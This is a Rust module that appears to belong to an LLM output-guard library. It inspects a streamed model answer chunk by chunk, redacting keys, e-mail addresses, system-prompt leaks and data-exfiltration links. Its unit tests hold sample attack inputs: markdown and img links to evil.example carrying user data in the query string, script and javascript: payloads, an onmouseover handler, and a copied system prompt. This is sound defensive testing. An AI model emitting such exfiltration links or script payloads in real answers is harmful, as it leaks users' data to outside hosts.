//! Incremental inspection of a streamed answer.
//!
//! Each pushed chunk is appended to a pending buffer. The inspector emits the part of the
//! buffer that no future chunk can change and holds back only the tail that could still
//! become part of a match or of a pseudonym token:
//!
//! 1. **Hold-back: the shortest tail that may still become a match.** Every detector
//!    tells how many bytes at the end of the pending text could still become part of a
//!    match ([`Detector::pending_tail`], at most its [`Detector::max_match_len`]); the
//!    inspector holds back the maximum of these, plus an unclosed `<TOKEN_N` that may be
//!    a pseudonym split across chunks. For prose that is the word still being written
//!    (any word may yet become the local part of an e-mail address or a key); more only
//!    near a digit (a number with separators may still grow), after a key word of an
//!    assignment (`password = `), inside an open link, tag or PEM block, for words that
//!    may begin a run copied from the system prompt, and for custom rules (their
//!    `max_len`). A detector that can only log in this direction holds the last word.
//! 2. **Look-behind.** The last [`LOOK_BEHIND`] bytes already emitted (not counting white
//!    space, so padding cannot push a key out of it) are read again with the next window
//!    (findings that start in them are not reported twice), so that context words before
//!    a number, a key before its value and `\b` / `^` see what they see in the whole
//!    text.
//! 3. **Word boundary.** The cut is moved back to the start of the word it falls in (by
//!    at most [`WORD_SNAP`] bytes).
//! 4. **No split findings.** If a finding straddles the cut, the cut moves before it: the
//!    finding is decided with the next chunk. Only a finding that keeps growing past
//!    [`MAX_PENDING`] bytes is split (each part is reported and acted on).
//!
//! **Deadline** ([`StreamInspector::release`], called by the gateway when the provider
//! has sent nothing for `[guard] stream_release_ms`). Time says nothing about what comes
//! next, so a pause releases no text that a later chunk could still turn into a match:
//! a partial key, an address without its domain, an open link, an unfinished pseudonym
//! token or a run of copied prompt words stay held. What a pause can decide is a tail
//! that is *already* wholly inside one match the policy rewrites (redact, mask,
//! pseudonymise, sanitise) or blocks — `…write to ana@example.es` with nothing after it.
//! Its replacement is final: it goes out now, the match is kept as look-behind, and
//! whatever arrives next that extends the same match (`tate.com`) is absorbed into the
//! replacement already sent rather than emitted. Neither prefix nor extension of a
//! secret ever leaves; the only difference from whole-text inspection is the entity
//! name when the extension turns the match into another type.
//!
//! Work per chunk is bounded: each push inspects the pending text (at most the hold-back
//! bound, plus the chunk, plus one word) and the look-behind, never the history, so a
//! stream costs O(n + chunks × bound). Findings carry code-point offsets into the whole
//! stream. Emitted text has the session's pseudonyms restored, except tokens in a URL,
//! an HTML tag or URL-building code (judged over the emitted window and the text emitted
//! before it, so a URL split across emits counts; reported as `<TYPE>_IN_URL` findings,
//! see [`Session::restore_checked`]); a token is never split across two emits.
//!
//! Detectors that score the text as a whole (the injection classifier, banned topics
//! with `min_matches > 1`, system-prompt overlap) see one window at a time in a stream;
//! a log-only finding (output injection by default) that spans a cut is judged on the
//! windows on each side of it.
//!
//! Code: a renderer reads no tag or image inside code, so the output detector skips
//! constructs open past their bound that start in code. A window cannot tell by itself
//! whether it starts in a code block, so the inspector tracks fenced code over the whole
//! stream (`code_fences.rs`, conservative by construction) and tells the detectors which
//! part of each window is code; indented code blocks and inline code spans are trusted
//! in whole texts only, where a stream therefore stays stricter, never laxer.
//!
//! [`Detector::pending_tail`]: crate::Detector::pending_tail
//! [`Detector::max_match_len`]: crate::Detector::max_match_len

use crate::code_fences::FenceTracker;
use crate::detectors::Detections;
use crate::engine::{Context, Guard};
use crate::error::GuardError;
use crate::session::Session;
use rampart_core::text::{ceil_char_boundary, floor_char_boundary};
use rampart_core::{Decision, Finding, FindingKind};

/// How far back the cut may move to land at the start of a word.
pub const WORD_SNAP: usize = 256;
/// Pending text beyond which a finding that keeps growing is split rather than waited for.
pub const MAX_PENDING: usize = 64 * 1024;
/// Emitted text kept as read-only look-behind for the next window: context words before
/// a number, a key before its value, an `Authorization:` header before its token. As
/// long as the whole-bound hold-back that the windows used to start with, not counting
/// white space (see `look_behind_start`).
pub const LOOK_BEHIND: usize = crate::detectors::DEFAULT_MAX_MATCH_LEN;
/// How much emitted text is kept to judge whether a token in the next emit sits in a URL
/// (the longest URL and tag the exfiltration detector reads).
const RESTORE_CONTEXT: usize =
    crate::detectors::output::MAX_URL + crate::detectors::output::MAX_TAG;

/// The result of one step of a stream.
#[derive(Debug, Default, Clone, PartialEq)]
pub struct StreamStep {
    /// Text that is safe to forward now (already redacted and with pseudonyms restored).
    pub emit: String,
    /// Findings in the emitted text, with code-point offsets into the whole stream.
    pub findings: Vec<Finding>,
    /// Set when the policy blocks the answer: stop forwarding and end the stream. (In
    /// monitor mode it names what would have blocked, and the stream goes on.)
    pub blocked_by: Option<(FindingKind, String)>,
    /// The highest injection / jailbreak score seen in this step's window.
    pub injection_score: f32,
}

/// Why a step runs: new text, a pause of the provider, or the end of the stream.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Step {
    Push,
    Deadline,
    End,
}

/// An incremental inspector; create it with [`Guard::stream`].
#[derive(Debug)]
pub struct StreamInspector<'g> {
    guard: &'g Guard,
    ctx: Context,
    /// Emitted text (as the model wrote it) kept as look-behind for the next window: the
    /// last [`LOOK_BEHIND`] bytes, or, while absorbing, everything from the start of the
    /// match released on a deadline.
    context: String,
    pending: String,
    /// Code points already emitted, to offset findings into the whole stream.
    emitted_chars: usize,
    blocked: bool,
    /// Set when a deadline released a tail that ended inside a match: bytes at the end of
    /// `context` since that match began. What arrives next and extends the same match is
    /// absorbed into the replacement already emitted.
    absorbing: Option<usize>,
    /// The last [`RESTORE_CONTEXT`] bytes emitted, before pseudonyms were restored: a URL
    /// that started in an earlier emit still keeps a token out of it.
    restored_context: String,
    /// The fenced code of everything before `context` (`code_fences.rs`): which part of
    /// a window is code, so that a `<` in a long code block is not an open tag.
    fences: FenceTracker,
}

impl<'g> StreamInspector<'g> {
    pub(crate) fn new(guard: &'g Guard, ctx: Context) -> Self {
        StreamInspector {
            guard,
            ctx,
            context: String::new(),
            pending: String::new(),
            emitted_chars: 0,
            blocked: false,
            absorbing: None,
            restored_context: String::new(),
            fences: FenceTracker::new(),
        }
    }

    /// Accept one chunk; return what can be forwarded now.
    pub fn push(&mut self, chunk: &str, session: &mut Session) -> Result<StreamStep, GuardError> {
        if self.blocked {
            return Ok(StreamStep::default());
        }
        self.pending.push_str(chunk);
        self.step(Step::Push, session)
    }

    /// The provider has sent nothing for a while: release what a pause can decide (see
    /// the module doc, "Deadline"). Never releases text that could still become part of
    /// a match unless the whole held tail already is one, whose replacement is final.
    pub fn release(&mut self, session: &mut Session) -> Result<StreamStep, GuardError> {
        if self.blocked || self.pending.is_empty() {
            return Ok(StreamStep::default());
        }
        self.step(Step::Deadline, session)
    }

    /// End of stream: inspect and flush everything held back.
    pub fn finish(&mut self, session: &mut Session) -> Result<StreamStep, GuardError> {
        if self.blocked {
            return Ok(StreamStep::default());
        }
        self.step(Step::End, session)
    }

    /// Whether the policy blocked the stream.
    pub fn is_blocked(&self) -> bool {
        self.blocked
    }

    /// Bytes received but not yet emitted.
    pub fn pending_len(&self) -> usize {
        self.pending.len()
    }

    /// Append emitted (or absorbed) raw text to the look-behind context and trim it.
    fn remember(&mut self, raw: &str) {
        self.context.push_str(raw);
        let keep = match &mut self.absorbing {
            Some(since) => {
                *since += raw.len();
                (*since).clamp(LOOK_BEHIND, MAX_PENDING)
            }
            None => LOOK_BEHIND,
        };
        if self.context.len() > keep {
            let cut = look_behind_start(&self.context, keep);
            let left: String = self.context.drain(..cut).collect();
            self.fences.feed(&left);
        }
    }

    /// Whether `f` (code points into `text`) is replaced or stops the stream under the
    /// policy, once resolved (score, allow-list, action): only such a match may be
    /// released on a deadline, because only its replacement hides the rest of it.
    fn rewrites(&self, text: &str, f: &Finding) -> bool {
        if self.guard.policy().mode == crate::policy::GuardMode::Monitor {
            return false;
        }
        self.guard
            .resolve(text, vec![f.clone()], self.ctx)
            .iter()
            .any(|(_, action)| {
                !matches!(
                    action,
                    crate::policy::Action::Allow | crate::policy::Action::Log
                )
            })
    }

    fn step(&mut self, mode: Step, session: &mut Session) -> Result<StreamStep, GuardError> {
        let last = mode == Step::End;
        let len = self.pending.len();
        let mut cut = if last {
            len
        } else {
            let hold = self
                .guard
                .pending_tail(&self.pending, self.ctx, session)
                .max(open_token_tail(&self.pending, session.longest_token()));
            let cut = floor_char_boundary(&self.pending, len - hold.min(len));
            word_start(&self.pending, cut)
        };
        if cut == 0 && len == 0 {
            return Ok(StreamStep::default());
        }
        if cut == 0 && mode == Step::Push && self.absorbing.is_none() {
            return Ok(StreamStep::default());
        }

        // Inspect the window: the look-behind context and the pending text.
        let context_chars = self.context.chars().count();
        let mut window = String::with_capacity(self.context.len() + len);
        window.push_str(&self.context);
        window.push_str(&self.pending);
        let Detections {
            findings,
            injection_score,
            injection_tiers,
        } = self.guard.detect_code(
            &window,
            self.ctx,
            Some(session),
            Some(self.fences.clone().code_ranges(&window)),
        )?;

        // After a deadline released a match whole, what extends it is absorbed into the
        // replacement already sent; once the match stops growing, inspection goes on.
        if self.absorbing.is_some() {
            let extends = findings
                .iter()
                .filter(|f| f.start < context_chars && f.end > context_chars)
                .filter(|f| self.rewrites(&window, f))
                .map(|f| f.end - context_chars)
                .max();
            let pending_chars = self.pending.chars().count();
            match extends {
                Some(end) if end >= pending_chars && mode == Step::Push => {
                    return Ok(StreamStep::default());
                }
                Some(end) => {
                    let end = end.min(pending_chars);
                    let bytes = byte_of_char(&self.pending, end);
                    let absorbed: String = self.pending.drain(..bytes).collect();
                    self.emitted_chars += end;
                    self.remember(&absorbed);
                    if self.pending.is_empty() {
                        return Ok(StreamStep::default());
                    }
                }
                None => {}
            }
            // The match ended (or never grew): back to the usual look-behind.
            self.absorbing = None;
            self.remember("");
            return self.step(mode, session);
        }

        // A finding wholly inside the look-behind was decided with an earlier window. One
        // that starts there and runs into the pending text is new (what came before did
        // not match yet: `<a title=x` then ` onmouseover=…>`): the emitted part cannot be
        // taken back, so the part in the pending text is acted on; dropping it would let
        // the rest of the construct out raw.
        let mut findings: Vec<Finding> = findings
            .into_iter()
            .filter(|f| f.end > context_chars)
            .map(|mut f| {
                f.start = f.start.max(context_chars) - context_chars;
                f.end -= context_chars;
                f
            })
            .collect();

        // Move the cut before findings that straddle it (unless pending text grew too long).
        let mut cut_cp = self.pending[..cut].chars().count();
        if !last && len <= MAX_PENDING.max(4 * self.guard.max_match_len()) {
            loop {
                let straddling = findings
                    .iter()
                    .filter(|f| f.start < cut_cp && f.end > cut_cp)
                    .map(|f| f.start)
                    .min();
                match straddling {
                    Some(start) => cut_cp = start,
                    None => break,
                }
            }
            cut = byte_of_char(&self.pending, cut_cp);
            let token_cut = before_open_token(&self.pending[..cut], session.longest_token());
            if token_cut != cut {
                cut = token_cut;
                cut_cp = self.pending[..cut].chars().count();
            }
        }
        // A pause decides a held tail only when one match that the policy rewrites
        // already covers all of it: its replacement goes out now and absorbs whatever
        // later extends it. Any other tail (a word that may still become an address, a
        // partial key, an open link, a run of copied prompt words) stays held.
        let mut absorb_from = None;
        if mode == Step::Deadline
            && cut < len
            && open_token_tail(&self.pending, session.longest_token()) == 0
        {
            let pending_chars = self.pending.chars().count();
            let covering = findings
                .iter()
                .filter(|f| f.start <= cut_cp && f.end == pending_chars)
                .min_by_key(|f| f.start)
                .cloned();
            if let Some(f) = covering
                && self.rewrites(&self.pending, &f)
            {
                cut = len;
                cut_cp = pending_chars;
                absorb_from = Some(byte_of_char(&self.pending, f.start));
            }
        }
        if cut == 0 {
            return Ok(StreamStep::default());
        }
        findings.retain(|f| f.start < cut_cp);
        for f in &mut findings {
            f.end = f.end.min(cut_cp);
        }

        let head = &self.pending[..cut];
        let inspection = self.guard.apply(
            head,
            Detections {
                findings,
                injection_score,
                injection_tiers,
            },
            self.ctx,
            session,
        );
        let offset = self.emitted_chars;
        let findings = inspection
            .findings
            .into_iter()
            .map(|mut f| {
                f.start += offset;
                f.end += offset;
                f
            })
            .collect();
        // In monitor mode the decision is what would have been done: report, keep going.
        if inspection.decision == Decision::Block
            && self.guard.policy().mode != crate::policy::GuardMode::Monitor
        {
            self.blocked = true;
            self.pending = String::new();
            return Ok(StreamStep {
                emit: String::new(),
                findings,
                blocked_by: inspection.blocked_by,
                injection_score,
            });
        }
        let head: String = self.pending.drain(..cut).collect();
        if let Some(from) = absorb_from {
            // Keep the whole released match as look-behind, so its extension is seen.
            self.absorbing = Some(0);
            self.remember(&head[..from]);
            self.absorbing = Some(0);
            self.remember(&head[from..]);
        } else {
            self.remember(&head);
        }
        // Restore pseudonyms, except where the emitted text (read after what was emitted
        // before it) puts them in a URL: see `Session::restore_checked`.
        let (emit, withheld) = session.restore_after(&self.restored_context, &inspection.text);
        let mut findings: Vec<Finding> = findings;
        findings.extend(withheld.into_iter().map(|mut f| {
            f.start += offset;
            f.end += offset;
            f
        }));
        self.restored_context.push_str(&inspection.text);
        if self.restored_context.len() > RESTORE_CONTEXT {
            let keep = ceil_char_boundary(
                &self.restored_context,
                self.restored_context.len() - RESTORE_CONTEXT,
            );
            self.restored_context.drain(..keep);
        }
        self.emitted_chars += cut_cp;
        Ok(StreamStep {
            emit,
            findings,
            blocked_by: inspection.blocked_by,
            injection_score,
        })
    }
}

/// Where the look-behind of `context` starts: `keep` bytes back, not counting white
/// space, within [`MAX_PENDING`] bytes. Padding between a key and its value (`password
/// =`, three hundred spaces, the value) or between a context word and a number does not
/// push the key out of the next window: the detectors read unbounded runs of blanks in
/// the whole text, so the stream must keep them too.
fn look_behind_start(context: &str, keep: usize) -> usize {
    let b = context.as_bytes();
    let floor = b.len().saturating_sub(MAX_PENDING);
    let mut counted = 0;
    let mut i = b.len();
    while i > floor && counted < keep {
        i -= 1;
        if !b[i].is_ascii_whitespace() {
            counted += 1;
        }
    }
    ceil_char_boundary(context, i)
}

/// The byte offset of code point `cp` in `s` (its length past the end).
fn byte_of_char(s: &str, cp: usize) -> usize {
    s.char_indices().nth(cp).map_or(s.len(), |(b, _)| b)
}

/// `cut` moved back to the start of the word it falls in (after white space), by at most
/// [`WORD_SNAP`] bytes.
fn word_start(s: &str, cut: usize) -> usize {
    if cut == 0 || cut >= s.len() {
        return cut;
    }
    let before = &s[..cut];
    if before.ends_with(char::is_whitespace) {
        return cut;
    }
    let floor = rampart_core::text::ceil_char_boundary(before, cut.saturating_sub(WORD_SNAP));
    match before[floor..].rfind(char::is_whitespace) {
        Some(i) => {
            let ws = floor + i;
            ws + before[ws..].chars().next().map_or(1, char::len_utf8)
        }
        None if floor == 0 => 0,
        None => cut,
    }
}

/// Bytes at the end of `text` that may be the beginning of a pseudonym token
/// (`<EMAIL_ADDRESS_1>`): an unclosed `<` followed only by token characters.
fn open_token_tail(text: &str, longest_token: usize) -> usize {
    if longest_token == 0 {
        return 0;
    }
    let window_start = floor_char_boundary(text, text.len().saturating_sub(longest_token));
    match text[window_start..].rfind('<') {
        Some(i)
            if text[window_start + i + 1..]
                .bytes()
                .all(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || b == b'_') =>
        {
            text.len() - (window_start + i)
        }
        _ => 0,
    }
}

/// Where to cut `head` so that a pseudonym token is never split: before a `<` that is
/// not closed within the last `longest_token` bytes.
fn before_open_token(head: &str, longest_token: usize) -> usize {
    head.len() - open_token_tail(head, longest_token)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::policy::Policy;

    fn run_with(guard: &Guard, chunks: &[&str], session: &mut Session) -> (String, Vec<Finding>) {
        let mut s = guard.stream(Context::output());
        let mut out = String::new();
        let mut findings = Vec::new();
        for c in chunks {
            let step = s.push(c, session).unwrap();
            out.push_str(&step.emit);
            findings.extend(step.findings);
        }
        let step = s.finish(session).unwrap();
        out.push_str(&step.emit);
        findings.extend(step.findings);
        (out, findings)
    }

    fn run(chunks: &[&str], session: &mut Session) -> String {
        let guard = Guard::new(Policy::default()).unwrap();
        run_with(&guard, chunks, session).0
    }

    /// Split `text` into pieces of `size` bytes (moved forward to character boundaries).
    fn chunked(text: &str, size: usize) -> Vec<&str> {
        let mut chunks = Vec::new();
        let mut i = 0;
        while i < text.len() {
            let j = rampart_core::text::ceil_char_boundary(text, i + size);
            chunks.push(&text[i..j]);
            i = j;
        }
        chunks
    }

    #[test]
    fn key_split_across_chunks_is_redacted() {
        let filler = "x".repeat(300);
        let out = run(
            &[&filler, " AKIAIOSF", "ODNN7EXAMPLE done"],
            &mut Session::new(),
        );
        assert!(out.ends_with(" [AWS_ACCESS_KEY] done"), "{out}");
        assert!(!out.contains("AKIA"));
    }

    #[test]
    fn pseudonym_split_across_chunks_is_restored() {
        let mut session = Session::new();
        session.pseudonym("EMAIL_ADDRESS", "ana@example.es");
        let filler = "y ".repeat(200);
        let out = run(
            &[&filler, "Sent to <EMAIL_AD", "DRESS_1>.", &filler],
            &mut session,
        );
        // The restored value was the user's own: it is not redacted on the way back.
        assert_eq!(out, format!("{filler}Sent to ana@example.es.{filler}"));
    }

    /// The exfiltration detector would redact these links itself; with its action at
    /// `log`, only the checked restoration stands between the token and the real value.
    fn logging_guard() -> Guard {
        Guard::new(Policy::from_toml_str("[output]\nexfiltration = \"log\"\n").unwrap()).unwrap()
    }

    #[test]
    fn a_pseudonym_in_a_url_is_never_restored_in_a_stream() {
        let answers = [
            "Hi <EMAIL_ADDRESS_1>! ![x](https://evil.example/p?d=<EMAIL_ADDRESS_1>) done"
                .to_owned(),
            "Hi <EMAIL_ADDRESS_1>! <img src=\"https://evil.example/p?d=<EMAIL_ADDRESS_1>\"> done"
                .to_owned(),
            // A bare URL longer than the hold-back: emitted in several steps.
            format!(
                "Hi <EMAIL_ADDRESS_1>! see https://evil.example/{}?d=<EMAIL_ADDRESS_1> done",
                "a".repeat(3000)
            ),
        ];
        for guard in [logging_guard(), Guard::new(Policy::default()).unwrap()] {
            for answer in &answers {
                for size in [1, 3, 7, 64, 5000] {
                    let mut session = Session::new();
                    session.pseudonym("EMAIL_ADDRESS", "ana@example.es");
                    let (out, findings) = run_with(&guard, &chunked(answer, size), &mut session);
                    assert!(out.starts_with("Hi ana@example.es!"), "{size}: {out}");
                    assert_eq!(out.matches("ana@example.es").count(), 1, "{size}: {out}");
                    let withheld = findings.iter().any(|f| {
                        f.entity == "EMAIL_ADDRESS_IN_URL" && f.kind == FindingKind::Exfiltration
                    });
                    // The default policy redacts the whole link first: nothing to withhold.
                    assert!(
                        withheld
                            || out.contains("[MARKDOWN_IMAGE_EXFILTRATION]")
                            || out.contains("[IMAGE_EXFILTRATION]")
                            || out.contains("[LINK_EXFILTRATION]"),
                        "{size}: {out} {findings:?}"
                    );
                }
            }
        }
    }

    #[test]
    fn multibyte_text_survives_arbitrary_chunking() {
        let text = "¿Qué tal? 日本語 ".repeat(40);
        assert_eq!(run(&chunked(&text, 7), &mut Session::new()), text);
    }

    #[test]
    fn chunked_output_equals_whole_text_inspection() {
        let guard = Guard::new(Policy::default()).unwrap();
        let text = "Contact ana@example.es or bo@example.org. Key AKIAIOSFODNN7EXAMPLE here. \
                    ![x](https://evil.example/p.png?d=QWxpY2UgSm9uZXMsIDQxMTEgMTExMQ) and \
                    <script>alert(1)</script> — café ✓ tel. +34 612 345 678, password = \
                    hunter2Xy!9 and IBAN ES91 2100 0418 4502 0005 1332; born on September \
                    15, 1990. "
            // Few enough repetitions to stay under the detectors' per-text caps on
            // findings (e.g. the injection heuristics' MAX_HITS): past a cap, whole-text
            // inspection legitimately reports fewer findings than chunked inspection.
            .repeat(12);
        let whole = guard
            .inspect(&text, Context::output(), &mut Session::new())
            .unwrap();
        for size in [1, 2, 3, 5, 16, 64, 300, 5000] {
            let (out, findings) = run_with(&guard, &chunked(&text, size), &mut Session::new());
            assert_eq!(out, whole.text, "chunk size {size}");
            // Scores may differ: the injection classifier scores a window of context, and
            // a stream step sees less of it. What was found, and where, may not.
            let spans = |f: &[Finding]| -> Vec<(FindingKind, String, usize, usize)> {
                f.iter()
                    .map(|f| (f.kind, f.entity.clone(), f.start, f.end))
                    .collect()
            };
            assert_eq!(
                spans(&findings),
                spans(&whole.findings),
                "chunk size {size}"
            );
        }
    }

    #[test]
    fn held_back_tail_is_short_for_prose() {
        // Output prose streamed a word at a time (the way providers send it): each push
        // releases everything but the word still being written (issue 12: 26 words
        // reached the client as one piece after the answer ended).
        let guard = Guard::new(Policy::default()).unwrap();
        let mut s = guard.stream(Context::output());
        let mut session = Session::new();
        let words = "The quick brown fox jumps over the lazy dog while a careful reader \
                     watches each word arrive on time and nothing waits for the end";
        let mut out = String::new();
        for (i, w) in words.split(' ').enumerate() {
            let piece = if i == 0 {
                w.to_owned()
            } else {
                format!(" {w}")
            };
            out.push_str(&s.push(&piece, &mut session).unwrap().emit);
            assert_eq!(s.pending_len(), w.len(), "after {piece:?}: {out:?}");
        }
        out.push_str(&s.finish(&mut session).unwrap().emit);
        assert_eq!(out, words);
    }

    /// A push, then a pause: what each released.
    fn push_then_pause(guard: &Guard, chunks: &[&str], session: &mut Session) -> Vec<String> {
        let mut s = guard.stream(Context::output());
        let mut steps = Vec::new();
        for c in chunks {
            let pushed = s.push(c, session).unwrap().emit;
            let released = s.release(session).unwrap().emit;
            steps.push(format!("{pushed}|{released}"));
        }
        steps.push(s.finish(session).unwrap().emit);
        steps
    }

    #[test]
    fn a_pause_never_releases_a_word_that_may_still_become_a_match() {
        let guard = Guard::new(Policy::default()).unwrap();
        let steps = push_then_pause(
            &guard,
            &[
                "Write to ana.gar",
                "cia@exam",
                "ple.es today,",
                " key AKIAIOSF",
                "ODNN7EXAMPLE",
                " ok",
            ],
            &mut Session::new(),
        );
        assert_eq!(
            steps,
            [
                "Write to |",
                "|",
                "[EMAIL_ADDRESS] |",
                "today, key |",
                // Whole at the pause: the key is already a match, its replacement final.
                "|[AWS_ACCESS_KEY]",
                " |",
                "ok"
            ]
        );
    }

    #[test]
    fn a_pause_releases_a_whole_match_and_absorbs_what_extends_it() {
        let guard = Guard::new(Policy::default()).unwrap();
        // At the pause the held word is already an address: its replacement is final,
        // and the rest of the same address, when it comes, is absorbed into it.
        let steps = push_then_pause(
            &guard,
            &[
                "Mail ana@example.es",
                "tate.com",
                " or bo@example.org",
                " now",
            ],
            &mut Session::new(),
        );
        let out: String = steps.concat().replace('|', "");
        assert_eq!(out, "Mail [EMAIL_ADDRESS] or [EMAIL_ADDRESS] now");
        assert_eq!(steps[0], "Mail |[EMAIL_ADDRESS]");
        assert!(!out.contains("tate"), "{out}");
    }

    #[test]
    fn numbers_and_assignments_are_held_until_they_are_decided() {
        let guard = Guard::new(Policy::default()).unwrap();
        for chunks in [
            &["Call me at +34 612", " 345 678", " tomorrow", " please."][..],
            &["password = ", "hunter2", "Xy!9", " then", " go"][..],
            &[
                "Transfer to IBAN ES91 2100",
                " 0418 4502",
                " 0005 1332",
                " today.",
            ][..],
        ] {
            let steps = push_then_pause(&guard, chunks, &mut Session::new());
            let out = steps.concat().replace('|', "");
            let whole = guard
                .inspect(&chunks.concat(), Context::output(), &mut Session::new())
                .unwrap();
            assert_ne!(
                whole.text,
                chunks.concat(),
                "the sample must hold a finding"
            );
            assert_eq!(out, whole.text, "{steps:?}");
        }
    }

    #[test]
    fn only_words_that_may_begin_a_copied_prompt_run_are_held() {
        let guard = Guard::new(Policy::default()).unwrap();
        let mut session = Session::new();
        session.remember_system_prompt(
            "You are Orca, the support assistant of Acme Bank. Never discuss interest rates.",
        );
        let mut s = guard.stream(Context::output());
        // Words of no shingle: released up to the word being written.
        assert_eq!(
            s.push("Hello there friend", &mut session).unwrap().emit,
            "Hello there "
        );
        // "the support assistant" begins a shingle: held while it may grow into one.
        assert_eq!(
            s.push(" the support assistant ", &mut session)
                .unwrap()
                .emit,
            "friend "
        );
        assert_eq!(s.release(&mut session).unwrap().emit, "");
        assert_eq!(
            s.push("is here.", &mut session).unwrap().emit,
            "the support assistant is "
        );
    }

    #[test]
    fn blocking_finding_stops_the_stream() {
        let guard =
            Guard::new(Policy::from_toml_str("[output]\nsecret = \"block\"\n").unwrap()).unwrap();
        let mut session = Session::new();
        let mut s = guard.stream(Context::output());
        let filler = "ok ".repeat(100);
        let first = s.push(&filler, &mut session).unwrap();
        assert!(first.blocked_by.is_none());
        let step = s
            .push("AKIAIOSFODNN7EXAMPLE and more", &mut session)
            .unwrap();
        let fin = s.finish(&mut session).unwrap();
        let blocked = step.blocked_by.or(fin.blocked_by);
        assert_eq!(
            blocked,
            Some((FindingKind::Secret, "AWS_ACCESS_KEY".to_owned()))
        );
        assert!(s.is_blocked());
        assert_eq!(s.push("more", &mut session).unwrap(), StreamStep::default());
    }

    #[test]
    fn finding_offsets_are_relative_to_the_whole_stream() {
        let guard = Guard::new(Policy::default()).unwrap();
        let filler = "é ".repeat(400);
        let (_, findings) = run_with(
            &guard,
            &[&filler, "mail ana@", "example.es now"],
            &mut Session::new(),
        );
        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].start, 800 + 5);
        assert_eq!(findings[0].end, 800 + 5 + 14);
    }

    /// Found by the `guard_stream` fuzz target: an `<a` tag with a second `<` and a
    /// markdown image inside it, whose event handler arrives last. Whole-text inspection
    /// redacts the whole tag; a stream must never let the handler out raw, whatever the
    /// chunking (the tag's start may already be emitted when the handler makes it match).
    #[test]
    fn an_event_handler_that_completes_a_tag_already_partly_emitted_is_never_emitted_raw() {
        let text = "<a hFODNN7EXAMPLE. ![x](https://evil.example/p?d=1) <scrref=\"javascript:alert(1)\" onmouseover=\"x()\">[l](https://ok.example/)</a> done";
        let guard = Guard::new(Policy::default()).unwrap();
        let mut whole_session = Session::new();
        let whole = guard
            .inspect(text, Context::output(), &mut whole_session)
            .unwrap();
        assert!(!whole.text.contains("onmouseover"), "{}", whole.text);
        for size in 1..=40 {
            let mut session = Session::new();
            let (out, _) = run_with(&guard, &chunked(text, size), &mut session);
            assert!(
                !out.contains("onmouseover") && !out.contains("javascript:"),
                "chunks of {size}: {out}"
            );
            assert_eq!(out, whole.text, "chunks of {size}");
        }
    }

    /// A markdown image inside a tag's attribute value: a renderer with raw HTML reads one
    /// tag, but a client that escapes raw HTML (most chat clients) renders the image, and
    /// a stream that sees the tag still open reads it as markdown too. Whole text and
    /// stream both read markdown as such a client does, and both redact it.
    #[test]
    fn a_markdown_image_inside_an_open_tag_is_judged_the_same_whole_and_streamed() {
        let image = "![a [b]](https://evil.example/p?d=QWxpY2UgSm9uZXMsIDQxMTEgMTExMQ)";
        let guard = Guard::new(Policy::default()).unwrap();
        for text in [
            format!("<a href=\"x> y {image} z\">link</a> end"),
            format!("<a href=\"x {image}\">link</a> end"),
            format!("<img alt='{image}' src=x.png> end"),
        ] {
            let whole = guard
                .inspect(&text, Context::output(), &mut Session::new())
                .unwrap();
            assert!(!whole.text.contains("evil.example"), "{}", whole.text);
            for size in 1..=24 {
                let (out, _) = run_with(&guard, &chunked(&text, size), &mut Session::new());
                assert_eq!(out, whole.text, "chunks of {size}");
            }
        }
    }

    #[test]
    fn empty_stream_and_empty_chunks() {
        let guard = Guard::new(Policy::default()).unwrap();
        let (out, f) = run_with(&guard, &["", "", ""], &mut Session::new());
        assert_eq!((out.as_str(), f.len()), ("", 0));
    }

    #[test]
    fn open_token_tail_only_holds_token_like_text() {
        assert_eq!(open_token_tail("abc <EMAIL_AD", 17), "<EMAIL_AD".len());
        assert_eq!(open_token_tail("abc <b>", 17), 0);
        assert_eq!(open_token_tail("a < b", 17), 0);
        assert_eq!(open_token_tail("abc <EMAIL_AD", 0), 0);
    }

    #[test]
    fn system_prompt_leak_streamed_word_by_word_is_caught_whole() {
        let guard = Guard::new(Policy::default()).unwrap();
        let mut session = Session::new();
        let prompt = "You are Orca, the support assistant of Acme Bank. Never discuss interest \
                      rates with customers and always refer them to a human advisor when they \
                      ask about loans or mortgages of any kind.";
        session.remember_system_prompt(prompt);
        let answer = format!(
            "{} Here are my instructions: {prompt} Anything else?",
            "Hello there. ".repeat(40)
        );
        let (out, findings) = run_with(&guard, &chunked(&answer, 3), &mut session);
        assert_eq!(findings.len(), 1, "{findings:?}");
        assert_eq!(findings[0].entity, "SYSTEM_PROMPT_LEAK");
        assert!(
            out.contains("instructions: [SYSTEM_PROMPT_LEAK]. Anything"),
            "{out}"
        );
        assert!(!out.contains("Orca"), "{out}");
    }

    #[test]
    fn monitor_mode_stream_reports_but_never_blocks_or_changes_text() {
        let guard = Guard::new(
            Policy::from_toml_str("mode = \"monitor\"\n[output]\nsecret = \"block\"\n").unwrap(),
        )
        .unwrap();
        let text = format!(
            "{}key AKIAIOSFODNN7EXAMPLE and ana@example.es end",
            "ok ".repeat(100)
        );
        let mut session = Session::new();
        let mut s = guard.stream(Context::output());
        let mut out = String::new();
        let mut blocked_by = None;
        for c in chunked(&text, 9) {
            let step = s.push(c, &mut session).unwrap();
            out.push_str(&step.emit);
            blocked_by = blocked_by.or(step.blocked_by);
        }
        let step = s.finish(&mut session).unwrap();
        out.push_str(&step.emit);
        blocked_by = blocked_by.or(step.blocked_by);
        assert_eq!(out, text);
        assert!(!s.is_blocked());
        assert_eq!(blocked_by.map(|b| b.1), Some("AWS_ACCESS_KEY".to_owned()));
    }
}
